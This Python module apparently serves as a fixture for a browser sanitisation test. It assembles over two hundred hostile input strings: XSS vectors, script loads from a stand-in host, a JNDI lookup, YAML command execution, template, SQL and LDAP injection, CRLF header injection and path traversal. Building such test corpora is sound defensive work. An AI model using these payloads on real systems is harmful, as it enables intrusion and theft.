"""More than two hundred texts that try to run, load, leak or break something wherever they are shown. Own-written.

Each that could run calls `hit()`, which no page has: a browser test defines it and sees whether anything ever called.
`PAYLOADS` is the list; `documents` packs them into bodies, and `lines` cuts one to what a title or a name may hold.
"""

import itertools
from collections.abc import Iterator
from html import escape
from typing import Final

# fmt: off
_ELEMENTS: Final = (
    "<script>hit()</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>hit()</scr</script>ipt>",
    "<script\n>hit()</script\n>", "<script/x>hit()</script>", "<script type=module>hit()</script>",
    "</script><script>hit()</script>", "</textarea><script>hit()</script>", "</title><script>hit()</script>",
    "</style><script>hit()</script>", "</noscript><script>hit()</script>", "--><script>hit()</script>",
    "]]><script>hit()</script>", "'><script>hit()</script>", "\"><script>hit()</script>", "`><script>hit()</script>",
    "<!--><script>hit()</script>", "<!-- --!><script>hit()</script>", "<![CDATA[><script>hit()</script>]]>",
    "<?xml version='1.0'?><script>hit()</script>", "<!DOCTYPE html><script>hit()</script>",
    "<iframe src='javascript:parent.hit()'></iframe>", "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data='javascript:hit()'></object>", "<embed src='javascript:hit()'>", "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>", "<link rel=stylesheet href='//evil.example/x.css'>",
    "<link rel=import href='data:text/html,<script>hit()</script>'>", "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(javascript:hit())}</style>", "<form action='javascript:hit()'><button>x</button></form>",
    "<button formaction='javascript:hit()'>x</button>", "<input type=image src=x onerror=hit()>",
    "<isindex action='javascript:hit()' type=image>", "<template><script>hit()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>", "<portal src='javascript:hit()'></portal>",
    "<dialog open onfocus=hit() autofocus>x</dialog>", "<x-evil is=evil onclick=hit()>x</x-evil>",
    "<a href='javascript:hit()' autofocus onfocus=hit()>x</a>", "<area href='javascript:hit()'>",
    "<frameset onload=hit()>", "<bgsound src='javascript:hit()'>", "<plaintext><script>hit()</script>",
    "<xmp><script>hit()</script></xmp>", "<math><mtext><img src=x onerror=hit()></mtext></math>",
    "<math><a xlink:href='javascript:hit()'>x</a></math>", "<details open ontoggle=hit()>x</details>",
    "<video><source onerror=hit()></video>", "<audio src=x onerror=hit()></audio>", "<select autofocus onfocus=hit()>",
    "<marquee onstart=hit()>x</marquee>", "<keygen autofocus onfocus=hit()>", "<applet code=x></applet>",
    "<slot onslotchange=hit()></slot>", "<img src=x onerror=hit()//", "<img/src=x/onerror=hit()>",
    "<img src=\"x\" onerror=\"hit()\"", "<img src=x:x onerror=\thit()>", "<img src=`x` onerror=hit()>",
    "<img\nsrc=x\nonerror=hit()>", "<IMG SRC=x OnErRoR=hit()>", "<img src=x one\0rror=hit()>",
    "<div style='width:expression(hit())'>x</div>", "<div style=\"background:url('javascript:hit()')\">x</div>",
    "<div hx-get=/accounts/logout/ hx-trigger=load>x</div>", "<div hx-on:load='hit()'>x</div>",
    "<div data-hx-post=/accounts/logout/ data-hx-trigger=load>x</div>", "<div _='on load call hit()'>x</div>",
)
_SVG: Final = (
    "<svg onload=hit()>", "<svg><script>hit()</script></svg>", "<svg><script href='data:,hit()'/></svg>",
    "<svg><a xlink:href='javascript:hit()'><text y=9>x</text></a></svg>", "<svg/onload=hit()//",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>", "<svg><set attributeName=href to='javascript:hit()'>",
    "<svg><foreignObject><iframe onload=hit()></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hit()>#x'></use></svg>",
    "<svg><style><img src=x onerror=hit()></style></svg>", "<svg><title><img src=x onerror=hit()></title></svg>",
    "<svg><desc><script>hit()</script></desc></svg>", "<svg><image href=x onerror=hit()></svg>",
)
_EVENTS: Final = ("onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "onpointerenter",
                  "ontransitionend", "onbeforetoggle", "onwheel", "oncontentvisibilityautostatechange")
_ADDRESSES: Final = (
    "javascript:hit()", "JaVaScRiPt:hit()", " javascript:hit()", "java\tscript:hit()", "java\nscript:hit()",
    "javascript&colon;hit()", "&#106;avascript:hit()", "&#x6A;avascript:hit()", "&#0000106avascript:hit()",
    "jav&#x09;ascript:hit()", "javascript&#58;hit()", "%6aavascript:hit()", "javascript:%68it()",
    "\x01javascript:hit()", "javascript:/*--></title></style></textarea></script>*/hit()", "javascript://x%0ahit()",
    "vbscript:hit()", "data:text/html,<script>hit()</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=hit()>", "feed:javascript:hit()", "view-source:javascript:hit()",
    "file:///etc/passwd", "blob:https://a.example/x", "livescript:hit()", "mocha:hit()", "jar:javascript:hit()",
    "ｊavascript:hit()", "javascript\u200b:hit()", "//evil.example\\@good.example", "https://good.example@evil.example",
    "https://a.example/\" onclick=\"hit()", "https://a.example/' onclick='hit()", "https://a.example/`onclick=hit()",
    "https://a.example/><img src=x onerror=hit()>",
)
_CONTAINERS: Final = ("[x]({})", "[x](<{}>)", "![x]({})", "[r{n}]: {}\n\n[r{n}]")
_MARKDOWN: Final = (
    "[x](https://a.example \"onmouseover=hit()\")", "[x](https://a.example 'a' onclick='hit()')",
    "[<img src=x onerror=hit()>](https://a.example)", "[![x](javascript:hit())](javascript:hit())",
    "[[x](javascript:hit())](javascript:hit())", "![<script>hit()</script>](https://a.example/x.png)",
    "<javascript:hit()>", "<https://a.example/\"onclick=hit()>", "<a.example@javascript:hit()>", "javascript:hit()",
    "# <script>hit()</script>", "# x\" onclick=\"hit()", "## x' onclick='hit()", "### [x](javascript:hit())",
    "x\n===\n<script>hit()</script>\n---", "```html\n<script>hit()</script>\n```", "```\" onclick=\"hit()\nx\n```",
    "~~~'><script>hit()</script>\nx\n~~~", "    <script>hit()</script>", "`<script>hit()</script>`",
    "```mermaid\n</code></pre><script>hit()</script>\n```",
    "```mermaid\ngraph TD\nA[\"<img src=x onerror=hit()>\"] --> B\nclick A \"javascript:hit()\"\n```",
    "```mermaid\nflowchart LR\nA -->|\"<script>hit()</script>\"| B[\"</text><script>hit()</script>\"]\n```",
    "```mermaid\ngraph TD\nA-->B\nclick A call hit()\nstyle A fill:url(javascript:hit())\n```",
    "```mermaid\n%%{init: {\"securityLevel\": \"loose\", \"themeCSS\": \"*{x:url(//evil.example)}\"}}%%\nA\n```",
    "| <img src=x onerror=hit()> |\n|---|\n| <script>hit()</script> |",
    "| [x](javascript:hit()) |\n|:-:\" onclick=\"hit()|",
    "> [!NOTE] <img src=x onerror=hit()>\n> [x](javascript:hit())", "> [!NOTE\" onclick=hit()] x",
    "- [ ] <script>hit()</script>\n- [x](javascript:hit())", "1. <img src=x onerror=hit()>", "~~<b onclick=hit()>~~",
    "[^1]: <script>hit()</script>\n\nx[^1]", "x\\<script>hit()\\</script>", "*<script*>hit()</script>",
    "&lt;script&gt;hit()&lt;/script&gt;", "&#60;script&#62;hit()&#60;/script&#62;", "&amp;lt;script&amp;gt;hit()",
    "\ue010drawing\ue011graph TD\nA-->B\ue012", "\ue010section\ue011\" onclick=\"hit()\ue012", "\ue000<b>\ue001",
    "[x]: https://a.example '\"><script>hit()</script>'\n[x]", "[x][<script>hit()</script>]",
)
_FRONT: Final = (
    "--- \ntitle: second front matter\n---\n<script>hit()</script>", "!!python/object/apply:os.system ['id']",
    "&a [*a, *a]", "{{ settings.SECRET_KEY }}", "{% load static %}{% csrf_token %}", "{% include '403.html' %}",
    "{{ request.user.email }}{{ perms }}", "{# <script> #}hit()", "${7*7}", "#{7*7}", "<%= hit() %>", "{{7*7}}",
    "{{constructor.constructor('hit()')()}}", "%(argument)s %s %n", "${jndi:ldap://evil.example/a}",
    "{\"@context\":\"</script><script>hit()</script>\"}", "\"},{\"@type\":\"Person\"", "\\\"><script>hit()</script>",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e", "</script><!--<script>",
)
_SIGNS: Final = (
    "\u202e)(tih<tpircs>", "\u202d\u202eright to left\u202c", "\u2066isolated", "\u200bzero\u200dwidth\ufeff",
    "line\u2028separator<script>hit()</script>", "paragraph\u2029separator", "next\x85line", "bell\x07 escape\x1b[2J",
    "vertical\x0btab form\x0cfeed", "Subject\r\nBcc: all@evil.example", "x\r\nSet-Cookie: a=b", "x%0d%0aSet-Cookie:a=b",
    "\ud7ff\ue000\ufffd", "Z̷̧̢̛̛̟̺͙̳̥a̴l̵g̶o̷", "سطر <b>عربي</b> hit()", "\u202etxt.exe", "＜script＞hit()＜/script＞", "ſcript",
    "<ſcript>hit()</ſcript>", "+ADw-script+AD4-hit()+ADw-/script+AD4-", "\xa0\xad\u2060",
)
_SIZES: Final = ("[" * 400 + "x", "> " * 120 + "x", "*" * 800, "<b>" * 300, "![" * 300, "- " * 120 + "x", "a" * 4000,
                 "&" * 800, "`" * 801, "|" * 400 + "\n" + "|-" * 400)
_NAMES: Final = (
    "id=\"page-main\"", "<form id=csp_nonce name=body>", "<img name=cookie>", "<a id=hit href=tel:1>x</a>",
    "<input name=csrfmiddlewaretoken value=x>", "../../etc/passwd", "..\\..\\x", "' OR 1=1 --",
    "'; DROP TABLE patterns_pattern; --", "\" UNION SELECT password", "*)(uid=*))(|(uid=*", "=cmd|' /C calc'!A0",
    "@SUM(1)", "-2+3", "CON", "%00", "%2e%2e%2f", "null", "undefined", "NaN", "[object Object]",
)
# fmt: on


def _in_containers() -> Iterator[str]:
    """Each address in one container and then the next, and the worst of them in all."""
    for number, (address, container) in enumerate(zip(_ADDRESSES, itertools.cycle(_CONTAINERS))):
        yield container.format(address, n=number)
    for number, container in enumerate(_CONTAINERS):
        yield container.format("javascript:hit()", n=100 + number)
        yield container.format("data:text/html,<script>hit()</script>", n=200 + number)


def _with_events() -> Iterator[str]:
    for event, element in zip(_EVENTS, itertools.cycle(("img src=x", "b", "a href=#", "body", "input autofocus"))):
        yield f"<{element} {event}=hit()>"
        yield f'x" {event}="hit()" y="'


PAYLOADS: Final = tuple(
    dict.fromkeys(
        [*_ELEMENTS, *_SVG, *_with_events(), *_in_containers(), *_MARKDOWN, *_FRONT, *_SIGNS, *_SIZES, *_NAMES]
    )
)


def storable(text: str) -> str:
    """The text as a database can hold it: without the one sign that none can."""
    return text.replace("\0", "\ufffd")


def lines(text: str, most: int) -> str:
    """What a title, a name or a summary may hold of it."""
    return storable(text)[:most] or "x"


def documents(each: int) -> Iterator[str]:
    """Bodies that hold all payloads, so many in each: as text, in headings, lists, tables, quotes, and entities."""
    for start in range(0, len(PAYLOADS), each):
        some = [storable(one) for one in PAYLOADS[start : start + each]]
        parts = [f"## Part {number}\n\n{one}\n" for number, one in enumerate(some)]
        parts += [f"## {one.partition(chr(10))[0]}\n\n- {one}\n\n> {one}\n\n{escape(one)}\n" for one in some]
        yield "\n\n".join(parts) + "\n"
